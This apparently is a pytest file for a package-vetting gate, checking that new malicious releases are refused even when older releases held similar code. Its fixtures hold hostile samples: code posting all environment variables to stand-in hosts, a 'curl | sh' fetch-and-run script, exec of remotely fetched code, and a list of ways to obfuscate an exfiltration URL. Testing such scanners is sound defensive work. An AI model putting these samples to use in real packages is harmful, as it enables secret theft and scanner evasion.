"""Attempts to have new harm set aside because something like it stood in an old release.

Each goes through the whole gate, with an index that tells when files were uploaded. What stood
unchanged is set aside, which shows that the others are refused for what they try.
"""

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from tests.fakes.https_server import HTTPSServer, https_server, respond
from tests.fakes.package_index import OLD, PackageIndex, metadata, sdist, wheel
from tests.local_run import LocalRun

LATELY = datetime.now(UTC) - timedelta(days=30)
"""Before the cooldown, but not so long ago that a release is a precedent."""
SENDS = b"import os\nimport requests\nrequests.post('https://a.example', json=dict(os.environ))\n"
ELSEWHERE = SENDS.replace(b"a.example", b"b.example")
STARTS = (
    b"import os\nimport subprocess\n"
    b"subprocess.run(['sh', os.path.join(os.path.dirname(__file__), 'run.sh')])\n"
)
FETCHES = b"#!/bin/sh\ncurl -s https://a.example/x | sh\n"
OWN_CODEC = b"# coding: own\nimport os\n"
DATA = b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n"
WAITS = (
    b"import os\nimport requests\nHTTP, DOT = 'https://', '.'\nURL = 'https://a.example/in'\n"
    b"def tell():\n    requests.post(URL, json=dict(os.environ))\n"
)
"""A client that sends everything to its own service, when it is asked to."""
FETCHED = (
    b"import requests\ndef update():\n    exec(requests.get("
    b"'https://raw.githubusercontent.com/own/project/main/x.py').text)\n"
)


def told(url: bytes, before: bytes = b"") -> bytes:
    """Give the client with an address that is worked out in another way."""
    return WAITS.replace(b"URL = 'https://a.example/in'\n", before + b"URL = " + url + b"\n")


@dataclass(frozen=True)
class World:
    """An index and a server of archives."""

    server: HTTPSServer
    index: PackageIndex

    def release(
        self,
        name: str,
        version: str,
        uploaded: datetime,
        files: Mapping[str, bytes],
        *,
        yanked: bool = False,
        tag: str = "py3-none-any",
    ) -> None:
        """Add a wheel of the project with these files in its package."""
        filename, data = _wheel(name, version, files, tag)
        self.index.add_file(name, filename, data, uploaded=uploaded, yanked=yanked)

    def source(self, name: str, version: str, uploaded: datetime, code: bytes) -> None:
        """Add an sdist of the project."""
        core = metadata(name, version)
        files = {"setup.py": b"", "PKG-INFO": core, f"{name}/__init__.py": code}
        filename, data = sdist(name, version, files)
        self.index.add_file(name, filename, data, uploaded=uploaded)

    def at(self, name: str, version: str, files: Mapping[str, bytes]) -> str:
        """Serve a wheel by an address of its own."""
        filename, data = _wheel(name, version, files)
        self.server.routes[f"/elsewhere/{filename}"] = respond(data)
        return f"{self.server.url}/elsewhere/{filename}"


def _wheel(
    name: str, version: str, files: Mapping[str, bytes], tag: str = "py3-none-any"
) -> tuple[str, bytes]:
    content = {f"{name}/{path}": data for path, data in files.items()}
    return wheel(name, version, metadata(name, version), tag, content)


def both(name: str, old: Mapping[str, bytes], new: Mapping[str, bytes]) -> Callable[[World], str]:
    """Make a project with an old and a new release; the new one is asked for."""

    def make(world: World) -> str:
        world.release(name, "1.0", OLD, old)
        world.release(name, "2.0", LATELY, new)
        return f"pypi:{name}"

    return make


def unchanged(world: World) -> str:
    return both("unchanged", {"__init__.py": SENDS}, {"__init__.py": SENDS})(world)


def by_address(name: str, code: bytes, *, version: str = "2.0") -> Callable[[World], str]:
    """Borrow the name of a project with an old release that sends secrets to its own address."""

    def make(world: World) -> str:
        world.release(name, "1.0", OLD, {"__init__.py": SENDS})
        return world.at(name, version, {"__init__.py": code})

    return make


def added_late(world: World) -> str:
    world.source("addedlate", "1.0", OLD, b"")
    world.release("addedlate", "1.0", LATELY, {"__init__.py": SENDS})
    return "pypi:addedlate==1.0"


def added_late_to_an_older_release(world: World) -> str:
    world.release("addedolder", "1.0", OLD, {"__init__.py": b""})
    tag = "cp311-none-any"
    world.release("addedolder", "1.0", LATELY, {"__init__.py": SENDS}, tag=tag)
    world.release("addedolder", "2.0", LATELY, {"__init__.py": SENDS})
    return "pypi:addedolder"


def made_for_the_purpose(world: World) -> str:
    lately = datetime.now(UTC) - timedelta(days=300)
    world.release("purpose", "1.0", lately, {"__init__.py": SENDS})
    world.release("purpose", "2.0", LATELY, {"__init__.py": SENDS})
    return "pypi:purpose"


def again(name: str, first: int, second: int) -> Callable[[World], str]:
    """Make a project that begins to send so many days ago, and has a release with it after that."""

    def make(world: World) -> str:
        now = datetime.now(UTC)
        world.release(name, "1.0", OLD, {"__init__.py": b""})
        world.release(name, "1.1", now - timedelta(days=first), {"__init__.py": SENDS})
        world.release(name, "1.2", now - timedelta(days=second), {"__init__.py": SENDS})
        return f"pypi:{name}"

    return make


def yanked(world: World) -> str:
    world.release("yanked", "0.9", OLD, {"__init__.py": b""})
    world.release("yanked", "1.0", OLD, {"__init__.py": SENDS}, yanked=True)
    world.release("yanked", "2.0", LATELY, {"__init__.py": SENDS})
    return "pypi:yanked"


def reported(world: World) -> str:
    both("reported", {"__init__.py": SENDS}, {"__init__.py": SENDS})(world)
    return "pypi:reported==2.0"  # else an older release is taken, which nobody has reported


SET_ASIDE: dict[str, Callable[[World], str]] = {
    "unchanged": unchanged,
    "script": both(
        "script",
        {"__init__.py": STARTS, "run.sh": FETCHES},
        {"__init__.py": STARTS, "run.sh": FETCHES, "more.py": b""},
    ),
    "carried": again("carried", 70, 30),
    "address": by_address("address", SENDS),
    "sameaddress": both(
        "sameaddress",
        {"__init__.py": WAITS},
        {"__init__.py": WAITS.replace(b"tell", b"send").replace(b"ron))", b"ron), timeout=5)")},
    ),
    "knownhost": both(
        "knownhost",
        {"__init__.py": b"DOCS = 'https://a.example/docs'\n"},
        {"__init__.py": b"DOCS = 'https://a.example/docs'\n", "client.py": WAITS},
    ),
}
REFUSED: dict[str, Callable[[World], str]] = {
    "changed": both("changed", {"__init__.py": SENDS}, {"__init__.py": ELSEWHERE}),
    "moved": both("moved", {"a.py": SENDS}, {"__init__.py": b"", "a.py": b"", "b.py": ELSEWHERE}),
    "inaweek": again("inaweek", 70, 63),
    "beside": both("beside", {"__init__.py": SENDS}, {"__init__.py": SENDS, "b.py": ELSEWHERE}),
    "waits": both(
        "waits",
        {"__init__.py": b"def go():\n    " + SENDS.replace(b"\n", b"\n    ")},
        {"__init__.py": b"def go():\n    " + SENDS.replace(b"\n", b"\n    ") + b"\ngo()\n"},
    ),
    **{
        name: both(name, {"__init__.py": WAITS}, {"__init__.py": code})
        for name, code in {
            "otheraddress": told(b"'https://b.example/in'"),
            "anaddressmore": told(
                b"['https://a.example/in', 'https://b.example/in'][os.getpid() % 2]"
            ),
            # Beside an address that stood there one that is written in another way.
            **{
                f"decoy{number}": told(
                    b"os.environ.get('A', 'https://a.example/in') or " + url,
                    b"import codecs, socket, urllib.parse\n",
                )
                for number, url in enumerate(
                    (
                        b"'ni/elpmaxe.b//:sptth'[::-1]",
                        b"''.join(reversed('ni/elpmaxe.b//:sptth'))",
                        b"'https:##b.example#in'.replace('#', '/')",
                        b"'%s://%s.%s' % ('https', 'b', 'example')",
                        b"'{}://{}.{}'.format('https', 'b', 'example')",
                        b"'.'.join(['https://b', 'example'])",
                        b"bytes([104, 116, 116, 112, 58, 47, 47, 98, 46, 105, 111]).decode()",
                        b"'uggcf://o.rknz'.translate(str.maketrans('ugcfork', 'htpsbex'))",
                        b"bytes.fromhex('68747470733a2f2f622e696f').decode()",
                        b"(0x687474703a2f2f622e696f).to_bytes(11, 'big').decode()",
                        b"'see https://b.example/in now please'.split()[1]",
                        b"HTTP + 'b' + DOT + 'example'",
                        b"'http://' + socket.inet_ntoa(bytes([203, 0, 113, 9]))",
                        b"urllib.parse.unquote('%68ttps:%2f%2fb.example')",
                        b"codecs.decode('uggcf://o.rknzcyr', 'rot13')",
                    )
                )
            },
            "anumber": told(b"'https://203.0.113.9/in'"),
            "decoded": told(
                b"base64.b64decode('aHR0cHM6Ly9iLmV4YW1wbGUvaW4=').decode()", b"import base64\n"
            ),
            "joined": told(
                b"''.join(map(chr, [104, 116, 116, 112, 58, 47, 47, 98, 46, 105, 111]))"
            ),
        }.items()
    },
    "frommodule": both(
        "frommodule",
        {"__init__.py": WAITS},
        {
            "__init__.py": told(b"HOST", b"from .conf import HOST\n"),
            "conf.py": b"HOST = 'https://b.example/in'\n",
        },
    ),
    "fromdata": both(
        "fromdata",
        {"__init__.py": WAITS, "conf.txt": b"https://a.example/in"},
        {
            "__init__.py": told(b"open(os.path.dirname(__file__) + '/conf.txt').read()"),
            "conf.txt": b"https://b.example/in",
        },
    ),
    "baresocket": both(
        "baresocket",
        {"__init__.py": WAITS},
        {
            "__init__.py": b"import http.client, json, os\ndef tell():\n"
            b"    there = http.client.HTTPSConnection('b.example')\n"
            b"    there.request('POST', '/', json.dumps(dict(os.environ)))\n"
        },
    ),
    "onlyremark": both(
        "onlyremark",
        {"__init__.py": b"# see https://b.example/in\n" + WAITS},
        {"__init__.py": told(b"'https://b.example/in'")},
    ),
    "anothersplace": both(
        "anothersplace",
        {"__init__.py": FETCHED},
        {"__init__.py": FETCHED.replace(b"own/", b"evil/")},
    ),
    "borrowed": by_address("borrowed", ELSEWHERE),
    "borrowedold": by_address("borrowedold", ELSEWHERE, version="0.1"),
    "borrowedsame": by_address("borrowedsame", ELSEWHERE, version="1.0"),
    "addedlate": added_late,
    "addedolder": added_late_to_an_older_release,
    "purpose": made_for_the_purpose,
    "yanked": yanked,
    "otherscript": both(
        "otherscript",
        {"__init__.py": STARTS, "run.sh": FETCHES},
        {"__init__.py": STARTS, "run.sh": FETCHES.replace(b"/x", b"/y")},
    ),
    "codec": both(
        "codec",
        {"__init__.py": OWN_CODEC, "codec.py": b""},
        {"__init__.py": OWN_CODEC, "codec.py": b"import codecs\n"},
    ),
    "data": both(
        "data",
        {"__init__.py": DATA, "notes.txt": b"x = 1\n"},
        {"__init__.py": DATA, "notes.txt": b"x = 2\n"},
    ),
    "reported": reported,
    "reportedold": both("reportedold", {"__init__.py": SENDS}, {"__init__.py": SENDS}),
}


@pytest.fixture(scope="module")
def requests(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Any]:
    """Give the report on each request, after one run for them all."""
    folder = tmp_path_factory.mktemp("abuse")
    with https_server(folder) as server:
        world = World(server, PackageIndex(server))
        made = {name: make(world) for name, make in {**SET_ASIDE, **REFUSED}.items()}
        local = LocalRun(folder / "run", world.index)
        local.folder.mkdir()
        local.add_advisory("reported", "2.0", identifier="MAL-2026-1")
        local.add_advisory("reportedold", "1.0", identifier="MAL-2026-2")
        local.run("".join(f"{name},{source}\n" for name, source in made.items()))
    return {request["name"]: request for request in local.report()["requests"]}


def findings(request: Mapping[str, Any]) -> list[Mapping[str, Any]]:
    return [each for package in request["packages"] for each in package["findings"]]


@pytest.mark.parametrize("name", SET_ASIDE)
def test_what_stood_unchanged_is_set_aside_and_shown(
    requests: Mapping[str, Any], name: str
) -> None:
    request = requests[name]

    assert request["verdict"] == "approved", request["reasons"]
    since = "1.1 of " if name == "carried" else "1.0 of 2024-01-01"
    assert any(f"has stood since {since}" in each["message"] for each in findings(request))


@pytest.mark.parametrize("name", REFUSED)
def test_what_did_not_is_refused(requests: Mapping[str, Any], name: str) -> None:
    request = requests[name]

    assert request["verdict"] == "refused", request["reasons"]
    assert any(each["severity"] in ("high", "critical") for each in findings(request))


def test_a_report_of_malware_is_the_reason(requests: Mapping[str, Any]) -> None:
    assert "MAL-2026-1" in {each["rule"] for each in findings(requests["reported"])}
    assert "MAL-2026-2" not in {each["rule"] for each in findings(requests["reportedold"])}
